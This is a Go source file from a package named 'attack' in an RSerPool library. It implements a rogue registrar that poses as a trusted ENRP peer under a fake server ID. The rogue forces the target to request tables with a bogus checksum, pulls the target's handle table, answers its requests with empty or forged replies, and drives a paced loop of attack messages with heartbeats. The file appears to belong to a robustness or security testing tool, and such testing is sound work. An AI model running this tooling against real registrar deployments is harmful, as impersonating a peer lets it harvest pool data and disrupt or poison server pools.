package attack

import (
	"context"
	"errors"
	"time"

	"github.com/rserpool-go/rserpool/wire"
	"github.com/rserpool-go/rserpool/wire/enrpmsg"
)

const (
	rogueID         = wire.ServerID(0x666)
	rogueHeartbeat  = time.Second
	rogueChecksum   = 0xffff // fits no table, so that the registrar asks for the table
	tableTimeout    = 5 * time.Second
	tableRetry      = 50 * time.Millisecond
	rogueUpdateLife = time.Hour
)

// A rogue is a registrar that joins the target as a peer, and then misuses the trust among registrars.
type rogue struct {
	*speaker
	w  *work
	id wire.ServerID

	// table and list answer requests of the target. Nil: an empty answer.
	table func() *enrpmsg.HandleTableResponse
	list  func() *enrpmsg.ListResponse

	// tables are handle tables that the rogue has asked for.
	tables chan *enrpmsg.HandleTableResponse
}

// joinAs opens an association with the target as a registrar.
func (w *work) joinAs(ctx context.Context, id wire.ServerID, r *rogue) error {
	s, err := w.speak(ctx, 0, w.ENRP, wire.PPIDENRP)
	if err != nil {
		return err
	}
	r.w, r.id, r.speaker, r.tables = w, id, s, make(chan *enrpmsg.HandleTableResponse, 1)
	s.hearENRP(func(m enrpmsg.Message) { r.answer(ctx, m) })
	return r.tell(ctx, r.presence(rogueChecksum))
}

func (r *rogue) ids() enrpmsg.IDs { return enrpmsg.IDs{Sender: r.id} }

// presence returns a sign of life of the rogue.
func (r *rogue) presence(checksum uint16) *enrpmsg.Presence {
	info := wire.ServerInformation{ID: r.id, Transport: transportAt(r.addr())}
	return &enrpmsg.Presence{IDs: r.ids(), Server: &info, Checksum: checksum}
}

// answer treats a message of the target. An answer that cannot be sent shows in the loop of the attack.
func (r *rogue) answer(ctx context.Context, m enrpmsg.Message) {
	switch m := m.(type) {
	case *enrpmsg.ListRequest:
		r.w.note("list requests", 1)
		reply := &enrpmsg.ListResponse{IDs: r.ids()}
		if r.list != nil {
			reply = r.list()
		}
		_ = r.tell(ctx, reply)
	case *enrpmsg.HandleTableRequest:
		r.w.note("table requests", 1)
		reply := &enrpmsg.HandleTableResponse{IDs: r.ids()}
		if r.table != nil {
			reply = r.table()
		}
		_ = r.tell(ctx, reply)
	case *enrpmsg.HandleTableResponse:
		select {
		case r.tables <- m:
		default: // Nobody waits for it.
		}
	}
}

var errNoTable = errors.New("the registrar has not sent its handle table")

// fetchTable returns the entries of the target's handle table. A registrar that has just started refuses requests.
func (r *rogue) fetchTable(ctx context.Context) (entries []enrpmsg.PoolEntry, err error) {
	limit := time.After(tableTimeout)
	for {
		if err := r.tell(ctx, &enrpmsg.HandleTableRequest{IDs: r.ids()}); err != nil {
			return nil, err
		}
		select {
		case m := <-r.tables:
			if m.Reject {
				Pause(ctx, tableRetry)
				continue
			}
			entries = append(entries, m.Entries...)
			if !m.MoreToSend {
				return entries, nil
			}
		case <-limit:
			return nil, errNoTable
		}
	}
}

// misbehave joins the target, and does something at the rate of the attack, with a sign of life every second.
func misbehave(does func(r *rogue, i int) enrpmsg.Message) method {
	return misbehaveAs(func(*work) wire.ServerID { return rogueID }, does)
}

// misbehaveAs is misbehave under another identifier.
func misbehaveAs(id func(w *work) wire.ServerID, does func(r *rogue, i int) enrpmsg.Message) method {
	return func(ctx context.Context, w *work) error {
		var r rogue
		if err := w.joinAs(ctx, id(w), &r); err != nil {
			return err
		}
		defer r.close()
		return w.endError(ctx, r.repeat(ctx, does))
	}
}

// repeat sends the messages of an attack.
func (r *rogue) repeat(ctx context.Context, does func(r *rogue, i int) enrpmsg.Message) error {
	last := time.Now()
	p := r.w.pacer(1)
	for i := 0; p.next(ctx) && (r.w.Count == 0 || i < r.w.Count); i++ {
		if err := r.tell(ctx, does(r, i)); err != nil {
			return err
		}
		r.w.count(1)
		if time.Since(last) < rogueHeartbeat {
			continue
		}
		last = time.Now()
		if err := r.tell(ctx, r.presence(rogueChecksum)); err != nil {
			return err
		}
	}
	return nil
}
